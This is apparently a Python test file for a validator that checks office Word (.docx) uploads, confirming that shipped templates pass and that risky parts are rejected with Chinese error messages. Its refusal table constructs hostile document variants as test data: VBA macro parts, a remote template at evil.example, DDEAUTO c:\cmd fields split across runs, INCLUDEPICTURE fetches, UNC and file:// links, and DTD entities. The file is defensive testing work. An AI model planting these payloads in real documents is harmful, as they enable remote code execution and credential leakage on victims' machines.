"""What a Word file of the office may hold: the shipped base passes, and no part that could do anything."""

from __future__ import annotations

from collections.abc import Callable
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import pytest

from dabzw.store.documents import template
from dabzw.store.word_base import NotAllowed, allowed_parts

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONS = "word/_rels/document.xml.rels"
SETTINGS = "word/_rels/settings.xml.rels"
DOCUMENT = "word/document.xml"
TYPES = "[Content_Types].xml"
Change = Callable[[dict[str, bytes]], object]


def base() -> dict[str, bytes]:
    with ZipFile(BytesIO(template("templates/papers/base.docx", {}).data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(parts: dict[str, bytes]) -> bytes:
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def within(name: str, before: str, text: str) -> Change:
    """Puts a text into a part, before a word of it."""

    def change(parts: dict[str, bytes]) -> None:
        at = parts[name].rindex(before.encode())
        parts[name] = parts[name][:at] + text.encode() + parts[name][at:]

    return change


def related(kind: str, target: str, mode: str = ' TargetMode="External"') -> Change:
    return within(
        RELATIONS,
        "</Relationships>",
        f'<Relationship Id="rIdX" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>',
    )


def added(name: str, data: bytes = b"<a/>") -> Change:
    return lambda parts: parts.update({name: data})


def field(*pieces: str) -> Change:
    """A field whose text stands in pieces; `{` and `}` begin and end one within."""
    marks = {"{": "begin", "}": "end", "|": "separate"}
    runs = "".join(
        f'<w:r><w:fldChar w:fldCharType="{marks[piece]}"/></w:r>'
        if piece in marks
        else f"<w:r><w:instrText>{piece}</w:instrText></w:r>"
        for piece in pieces
    )
    return within(DOCUMENT, "<w:sectPr", f"<w:p>{runs}</w:p>")


def body(xml: str) -> Change:
    return within(DOCUMENT, "<w:sectPr", f"<w:p><w:r>{xml}</w:r></w:p>")


REFUSED: dict[str, tuple[Change, str]] = {
    "macro": (added("word/vbaProject.bin"), "不得有部件 word/vbaProject.bin"),
    "macro by another name": (
        within(TYPES, "</Types>", '<Override PartName="/word/media/a.png" ContentType="application/vnd.ms-office.vbaProject"/>'),
        "部件 word/media/a.png 的类型 application/vnd.ms-office.vbaProject 不许有",
    ),
    "embedded": (added("word/embeddings/a.xlsx"), "不得有部件 word/embeddings/a.xlsx"),
    "ActiveX": (added("word/activeX/activeX1.xml"), "不得有部件 word/activeX/activeX1.xml"),
    "chunk": (added("word/afchunk.mht"), "不得有部件 word/afchunk.mht"),
    "comments": (added("word/comments.xml"), "不得有部件 word/comments.xml"),
    "chart": (added("word/charts/chart1.xml"), "不得有部件 word/charts/chart1.xml"),
    "svg": (added("word/media/a.svg"), "不得有部件 word/media/a.svg"),
    "other": (added("evil.exe"), "不得有部件 evil.exe"),
    "remote template": (
        added(SETTINGS, f'<Relationships><Relationship Id="a" Type="{OFFICE}/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'.encode()),
        "引用了外部文件 http://evil.example/x.dotm（attachedTemplate）",
    ),
    "remote picture": (related("image", "http://evil.example/a.png"), "引用了外部文件 http://evil.example/a.png（image）"),
    "frame": (related("frame", "http://evil.example/"), "（frame）"),
    "chunk relation": (related("aFChunk", "a.html", ""), "引用了部件 a.html（aFChunk）"),
    "object relation": (related("oleObject", "a.bin", ""), "（oleObject）"),
    "inside that is outside": (related("image", "http://evil.example/a.png", ""), "引用了外部文件"),
    "share": (related("image", "//evil/a.png", ""), "引用了外部文件"),
    "link to a file": (related("hyperlink", "file://evil/a"), "的超链接 file://evil/a 不是网址或邮箱"),
    "link to a share": (related("hyperlink", r"\\evil\a"), "不是网址或邮箱"),
    "attached": (within("word/settings.xml", "</w:settings>", "<w:attachedTemplate/>"), "另外附加的模板"),
    "merge": (within("word/settings.xml", "</w:settings>", "<w:mailMerge/>"), "邮件合并的数据源"),
    "chunk element": (body("<w:altChunk/>"), "外来的内容（altChunk）"),
    "object element": (body("<w:object/>"), "嵌入的对象"),
    "control": (body("<w:control/>"), "控件"),
    "fetched picture": (
        body('<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://evil.example/a"/>'),
        "图形引用了 http://evil.example/a",
    ),
    "run": (field("{", "DDEAUTO c:\\cmd", "}"), "里有域 DDEAUTO c:"),
    "run in pieces": (field("{", " D", "DE", "AUTO x", "|", "}"), "里有域 DDEAUTO x"),
    "never ended": (field("{", "DDE x"), "里有域 DDE x"),
    "without a mark": (field("INCLUDETEXT x"), "里有域 INCLUDETEXT x"),
    "fetched": (field("{", "INCLUDEPICTURE http://evil.example/a", "}"), "里有域 INCLUDEPICTURE"),
    "within": (field("{", "IF 1 = 1 ", "{", "DDE x", "}", "}"), "里有域 DDE x"),
    "made": (field("{", "{", "SEQ a", "}", " x", "}"), "里有域"),
    "simple": (body('<w:fldSimple w:instr="DDE x"/>'), "里有域 DDE x"),
    "link field": (field("{", 'HYPERLINK "file://evil/a"', "}"), "的超链接 file://evil/a 不是"),
    "entity": (
        lambda parts: parts.update({DOCUMENT: b'<!DOCTYPE a [<!ENTITY x "y">]>' + parts[DOCUMENT]}),
        "里面有外部引用或实体定义（DTD）",
    ),
    "macro document": (
        lambda parts: parts.update({TYPES: parts[TYPES].replace(b"vnd.openxmlformats-officedocument.wordprocessingml.document.main", b"vnd.ms-word.document.macroEnabled.main")}),
        "它不是 Word 文件（.docx）；带宏的",
    ),
    "no types": (lambda parts: parts.pop(TYPES), "它不是 Word 文件（.docx）"),
    "broken xml": (lambda parts: parts.update({DOCUMENT: b"<a>"}), "内部已损坏"),
}  # fmt: skip

ALLOWED: dict[str, Change] = {
    "as it ships": lambda _parts: None,
    "letterhead": added("word/media/image1.png", b"\x89PNG"),
    "font": added("word/fonts/font1.odttf", b"x"),
    "header": added("word/header2.xml"),
    "link": related("hyperlink", "https://www.example.cn/"),
    "mail": related("hyperlink", "mailto:a@example.cn"),
    "page number": field("{", " PAGE ", "|", "}"),
    "table of contents": field("{", 'TOC \\o "1-2"', "|", "{", "PAGEREF a \\h", "|", "}", "}"),
    "condition": field("{", "IF ", "{", "PAGE", "|", "}", ' = 1 "a" "b"', "|", "}"),
    "link field": field("{", 'HYPERLINK "https://www.example.cn/" \\o "x"', "}"),
    "bookmark": field("{", 'HYPERLINK \\l "x"', "}"),
    "type of no part": within(TYPES, "</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
}  # fmt: skip


@pytest.mark.parametrize("name", REFUSED)
def test_what_no_paper_may_hold_is_named(name: str) -> None:
    change, says = REFUSED[name]
    parts = base()
    change(parts)
    with pytest.raises(NotAllowed) as found:
        allowed_parts(packed(parts))
    assert says in str(found.value)


@pytest.mark.parametrize("name", ALLOWED)
def test_what_an_office_puts_into_its_papers_is_allowed(name: str) -> None:
    parts = base()
    ALLOWED[name](parts)
    assert allowed_parts(packed(parts)).keys() == parts.keys()


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (b"no archive", "压缩结构已损坏"),
        (b"\xd0\xcf\x11\xe0" * 9, "压缩结构已损坏"),
        (packed({}), "不是 Word 文件"),
    ],
)
def test_what_is_no_word_file(data: bytes, says: str) -> None:
    with pytest.raises(NotAllowed, match=says):
        allowed_parts(data)
